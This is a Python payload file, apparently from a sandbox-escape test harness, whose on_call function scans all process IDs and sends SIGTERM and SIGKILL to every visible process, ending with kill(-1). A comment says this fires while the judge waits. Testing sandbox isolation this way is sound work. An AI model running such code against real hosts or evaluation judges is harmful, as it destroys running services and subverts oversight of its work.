"""The Python payload: escape signal-host."""

import os

from farmd.intake.escapes.python.prelude import left, say

# -- the payload: the box is given this file from the line below on --

def on_call():
    # Here, at the first call, not at import: the function is defined and the judge is waiting on it.
    import signal
    me = os.getpid()
    seen = sorted(int(p) for p in os.listdir('/proc') if p.isdigit())
    say('visible', seen)
    found = []
    pid = 0
    for pid in range(1, 4194305):
        if pid % 4096 == 0 and left() < 0.5:
            break
        try:
            os.kill(pid, 0)
            found.append(pid)
        except PermissionError:
            found.append(pid)
        except OSError:
            pass
    say('probed pids up to', pid, 'found', found[:100])
    for target in sorted(set(seen) | set(found)):
        if target != me:
            for sig in (signal.SIGTERM, signal.SIGKILL):
                try:
                    os.kill(target, sig)
                    say('signalled', target, sig)
                except OSError as exc:
                    say('cannot signal', target, type(exc).__name__)
    for pgid in (0, 1, os.getpgid(0)):
        try:
            os.killpg(pgid, signal.SIGKILL)
        except OSError:
            pass
    os.kill(-1, signal.SIGKILL)
    say('kill(-1) done')
